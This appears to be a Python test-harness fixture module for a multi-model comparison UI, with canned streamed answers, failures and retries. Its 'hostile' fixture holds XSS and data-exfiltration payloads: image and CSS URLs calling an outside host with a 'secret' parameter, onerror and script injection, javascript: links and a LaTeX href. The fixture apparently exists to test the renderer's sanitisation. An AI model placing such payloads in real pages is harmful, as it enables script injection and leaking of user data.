"""Runs for the harness: written by a thread, read by the stream, as the engine's are."""

from __future__ import annotations

import os
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

from prompts.core.answer import LIVE
from providers.pictures import Picture

RATE = float(os.environ.get("GRID_RATE", "60"))
"""Pieces a second and column."""
GO_ON = Path(os.environ.get("GRID_GO_ON", "."))
"""A run named `held-…` waits in the middle of its answers for a file of its name in here."""


@dataclass(frozen=True)
class Trouble:
    message: str
    next_step: str
    without: str | None = None


@dataclass(eq=False)
class Column:
    title: str
    subtitle: str = "builtin:sample → on this machine"
    status: str = "waiting"
    text_parts: list[str] = field(default_factory=list)
    thinking_parts: list[str] = field(default_factory=list)
    attempt: int = 0
    note: str | None = None
    figures: tuple[tuple[str, str, str], ...] = ()
    problem: Trouble | None = None
    mark: str | None = None
    earlier: tuple[tuple[str, str], ...] = ()
    pictures: tuple[Picture, ...] = ()
    alt: str = "a picture"
    askable: bool = True
    sent_at: float | None = None

    @property
    def elapsed_s(self) -> float | None:
        return None if self.sent_at is None else time.monotonic() - self.sent_at


FIGURES = (
    ("first token", "0.42 s", "Until the first answer text."),
    ("duration", "7.31 s", "Until the stream had ended."),
    ("tokens/s", "84.2", "Answer tokens after the first over the time they took."),
    ("in", "1,204", "Input tokens."),
    ("out", "586", "Output tokens, thinking included."),
    ("cost", "$0.0091", "List price."),
)


@dataclass(eq=False)
class Run:
    id: str
    columns: list[Column]
    answer: str = ""
    draws: bool = False

    @property
    def finished(self) -> bool:
        return not any(column.status in LIVE for column in self.columns)

    @property
    def held(self) -> bool:
        return self.id.startswith("held-") and not (GO_ON / self.id).exists()

    def stop(self, column: int) -> None:
        self.columns[column].status = "cancelled"

    def retry(self, number: int) -> None:
        column = self.columns[number]
        column.text_parts, column.thinking_parts, column.problem, column.figures = [], [], None, ()
        column.status = "waiting"
        column.attempt += 1
        threading.Thread(target=self.write, args=(column,), daemon=True).start()

    def write(self, column: Column) -> None:
        """Send the answer piece by piece until it ends or somebody stops it."""
        attempt = column.attempt
        column.status, column.sent_at = "sent", time.monotonic()
        time.sleep(0.2)
        if column.status != "sent":
            return
        column.status = "streaming"
        for word in "I should think about that first. ".split(" "):
            column.thinking_parts.append(word + " ")
            time.sleep(1 / RATE)
        for start in range(0, len(self.answer), 4):
            if column.status != "streaming" or column.attempt != attempt:
                return
            column.text_parts.append(self.answer[start : start + 4])
            time.sleep(1 / RATE)
            while start == len(self.answer) // 8 * 4 and self.held and column.status == "streaming":
                time.sleep(1 / RATE)
        column.figures = FIGURES
        column.status = "complete"


ANSWER = """\
## Choosing a sort

**Merge sort** is *stable* and never slower than $O(n \\log n)$; quicksort is faster in practice. The mean depth is

\\[
T(n) = 2\\,T\\!\\left(\\frac{n}{2}\\right) + \\Theta(n)
\\]

1. Small inputs: insertion sort, because its constant is small.
2. Nearly sorted inputs: **Timsort**, which finds runs.
   - natural runs are merged
   - galloping helps where they differ much
3. Everything else: quicksort with a good pivot.

```python
def merge(left: list[int], right: list[int]) -> list[int]:
    # Two sorted lists become one.
    out = []
    while left and right:
        out.append((left if left[0] <= right[0] else right).pop(0))
    return out + left + right
```

| algorithm | worst case | stable | extra memory |
|---|---|:-:|--:|
| merge sort | $O(n \\log n)$ | yes | n |
| quicksort | $O(n^2)$ | no | log n |
| heapsort | $O(n \\log n)$ | no | 1 |

> A library's sort is nearly always the right one. See [the documentation](https://docs.python.org/3/howto/sorting.html).

It costs $5 or $6 to be wrong here, and `sorted(x)` is free.
"""

ELSEWHERE = os.environ.get("GRID_ELSEWHERE", "http://127.0.0.1:9")
HOSTILE = f"""\
![secret]({ELSEWHERE}/image?secret) and ![again][ref]

[ref]: {ELSEWHERE}/reference

<img src="{ELSEWHERE}/html" onerror="alert(1)"><script src="{ELSEWHERE}/script"></script>

<style>@import url({ELSEWHERE}/style); body {{ background: url({ELSEWHERE}/background) }}</style>

[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [lies](https://evil.example/)

$\\href{{{ELSEWHERE}/maths}}{{x}}$ $\\text{{<img src={ELSEWHERE}/text onerror=alert(1)>}}$

$\\style{{background:url({ELSEWHERE}/s)}}{{y}}$

```html" onload="alert(1)
<img src={ELSEWHERE}/code>
```

<iframe src="{ELSEWHERE}/frame"></iframe><link rel="prefetch" href="{ELSEWHERE}/link"><base href="{ELSEWHERE}/">
"""

NAMES = (
    "GPT-5.2", "Claude Opus 4.5", "Gemini 3 Pro", "Mistral Large 3",
    "Llama 4 Maverick", "Qwen 3 Next", "DeepSeek V4", "Phi 5 mini",
)  # fmt: skip


def _done(title: str, **fields: object) -> Column:
    values = {"status": "complete", "text_parts": [ANSWER], "figures": FIGURES} | fields
    return Column(title, "openai:gpt-5.2 → api.openai.com", **values)  # type: ignore[arg-type]


def _gallery() -> Run:
    refused = "Unsupported value: 'temperature' does not support 0.3 with this model. Only 1 is supported."
    thought = "The user asks for a sort. I should compare stability, worst case and memory.\n\nLet me list them."
    now = time.monotonic()
    return Run("gallery", [
        _done(NAMES[0], thinking_parts=[thought]),
        _done(NAMES[1], status="cut", text_parts=[ANSWER[:700]]),
        _done(NAMES[2], status="failed", text_parts=[], figures=(),
              problem=Trouble(refused, "Change the setting that the message names, or run without it.", "temperature")),
        Column(NAMES[3], note="Waits for its turn: one request at a time on this machine."),
        _done(NAMES[4], status="streaming", text_parts=[ANSWER[:520]], figures=(), sent_at=now),
        _done(NAMES[5], status="streaming", text_parts=[], thinking_parts=[thought], figures=(), sent_at=now),
        _done(NAMES[6], status="cancelled", text_parts=[ANSWER[:260]], figures=FIGURES[:2]),
        _done(NAMES[7], text_parts=["42"]),
    ])  # fmt: skip


LONG_NAME = "A model with a name that is longer than any column is wide, and then a little longer still"
EARLIER = (("user", "Which *sort* is best?"), ("assistant", "That **depends** on the input."))


def _reading() -> list[Column]:
    """Three answers alike in part, one that failed."""
    shorter = ANSWER.replace("quicksort is faster in practice", "quicksort is quicker most of the time")
    shorter = shorter.replace("3. Everything else: quicksort with a good pivot.\n", "")
    other = "Use the sort of your library.\n\nIt is **tested**, it is fast, and everybody knows what it does.\n"
    return [
        _done(NAMES[0], earlier=EARLIER),
        _done(NAMES[1], text_parts=[shorter], mark="differs: temperature 0.2"),
        _done(LONG_NAME, text_parts=[other * 12]),
        _done(NAMES[3], status="failed", text_parts=[], figures=(), problem=Trouble("No.", "Retry.")),
    ]


_runs: dict[str, Run] = {}


def find(run_id: str) -> Run | None:
    """The run of that name, begun when it is first asked for."""
    if run_id not in _runs:
        kind = run_id.split("-")[0]
        if kind == "gallery":
            _runs[run_id] = _gallery()
        elif kind == "finished":
            _runs[run_id] = Run(run_id, [_done(name) for name in NAMES[:3]])
        elif kind == "reading":
            _runs[run_id] = Run(run_id, _reading(), ANSWER)
        elif kind == "compared":
            run = _runs[run_id] = Run(run_id, [_done(NAMES[0]), Column(NAMES[1])], ANSWER * 2)
            threading.Thread(target=run.write, args=(run.columns[1],), daemon=True).start()
        elif kind == "hostile":
            _runs[run_id] = Run(run_id, [_done("Hostile", text_parts=[HOSTILE])])
        elif kind == "failed":
            _runs[run_id] = Run(run_id, _gallery().columns[2:3], ANSWER)
        elif kind in ("stream", "held"):
            run = _runs[run_id] = Run(
                run_id, [Column(name) for name in NAMES], ANSWER * int(os.environ.get("GRID_TIMES", "1"))
            )
            for column in run.columns:
                threading.Thread(target=run.write, args=(column,), daemon=True).start()
    return _runs.get(run_id)
